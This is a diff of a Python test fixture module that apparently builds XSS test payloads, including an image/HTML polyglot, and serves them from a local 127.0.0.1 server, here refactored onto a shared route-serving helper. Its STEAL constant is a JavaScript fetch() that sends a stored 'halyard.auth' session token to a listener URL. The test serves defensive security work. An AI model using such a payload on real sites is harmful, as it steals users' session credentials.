@@ -7,11 +7,10 @@ only turns into HTML when sniffed, and a PNG/HTML polyglot (a valid image with a
 ``api_server(listener)`` serves ``api_bodies`` on 127.0.0.1 for ``api`` data sources to fetch.
 """
 import io
-import threading
-from contextlib import contextmanager
-from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 
 from PIL import Image
+
+from tests.route_server import serve_routes
 
 STEAL = "fetch('{listener}/?t='+encodeURIComponent(sessionStorage.getItem('halyard.auth')))"
 
@@ -73,29 +72,6 @@ def api_bodies(listener):
     ]
 
 
-@contextmanager
 def api_server(listener):
-    """A 127.0.0.1 server answering ``/<label>`` with that api body and its claimed type; yields its base."""
-    bodies = {f"/{label}": (ctype, body) for label, ctype, body in api_bodies(listener)}
-
-    class Handler(BaseHTTPRequestHandler):
-        def do_GET(self):
-            ctype, body = bodies.get(self.path, ("text/plain", b"missing"))
-            self.send_response(200 if self.path in bodies else 404)
-            self.send_header("Content-Type", ctype)
-            self.send_header("Content-Length", str(len(body)))
-            self.end_headers()
-            self.wfile.write(body)
-
-        def log_message(self, *args):
-            pass
-
-    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
-    thread = threading.Thread(target=server.serve_forever, daemon=True)
-    thread.start()
-    try:
-        yield f"http://127.0.0.1:{server.server_address[1]}"
-    finally:
-        server.shutdown()
-        server.server_close()
-        thread.join(10)
+    """Serve ``/<label>`` → that api body with its claimed type on 127.0.0.1 (a context manager)."""
+    return serve_routes({f"/{label}": (200, ctype, body) for label, ctype, body in api_bodies(listener)})
